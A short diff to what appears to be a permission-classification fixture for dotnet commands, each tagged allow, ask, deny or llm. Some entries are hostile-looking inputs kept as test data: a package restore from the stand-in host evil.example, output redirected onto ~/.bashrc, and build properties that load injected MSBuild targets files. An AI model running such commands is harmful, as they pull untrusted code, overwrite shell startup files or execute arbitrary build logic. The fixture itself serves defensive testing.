@@ -141,6 +141,7 @@ ask    dotnet restore --source https://evil.example/v3/index.json
 deny   dotnet build -o /usr/lib/app
 allow  dotnet msbuild src/App -preprocess:/tmp/app.pp.xml && grep -n Stamp /tmp/app.pp.xml
 ask    dotnet msbuild src/App -pp:/home/user/.bashrc
+llm    dotnet build '-p:OutDir=/tmp/x;CustomAfterMicrosoftCommonTargets=/tmp/e.targets'
 ask    dotnet build -p:CustomBeforeMicrosoftCommonTargets=/home/user/x.targets
 ask    dotnet surprise
 ask    dotnet workload install maui
